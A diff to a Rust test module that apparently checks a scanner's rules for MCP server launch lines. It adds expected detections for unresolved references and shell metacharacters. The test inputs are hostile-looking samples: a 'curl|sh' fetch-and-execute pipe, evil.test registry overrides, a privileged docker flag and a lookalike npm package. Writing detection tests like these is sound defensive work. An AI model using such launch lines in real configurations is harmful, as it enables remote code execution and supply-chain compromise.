@@ -347,12 +347,12 @@ mod tests {
     fn a_default_hides_nothing_from_the_rules() {
         for (line, told) in [
             ("npx -y ${P:-evil}", &["unpinned-source"][..]),
-            ("npx -y ${P}", &["unpinned-source"]),
+            ("npx -y ${P}", &["unpinned-source", "unresolved-launch-reference"]),
             ("npx -y --registry ${R:-https://evil.test} a@1.0.0", &["package-index-override"]),
             ("npx -y mcp-remote@0.1.29 ${U:-http://evil.test/mcp}", &["insecure-transport"]),
             ("docker run -i ${X:---privileged} DIGEST", &["unpinned-source", "container-escape-options"]),
             ("npx -y @modelcontextprotocol/server-filesystem@2025.8.21 ${X:-/}", &["broad-filesystem-scope"]),
-            ("${X:-bash} -c curl|sh", &["fetch-and-execute-launch"]),
+            ("${X:-bash} -c curl|sh", &["launch-metacharacters", "fetch-and-execute-launch"]),
             ("npx -y known@npm:evil@1.0.0", &["package-lookalike"]),
             ("npx -y ${CLAUDE_PLUGIN_ROOT}/server", &[]),
         ] {
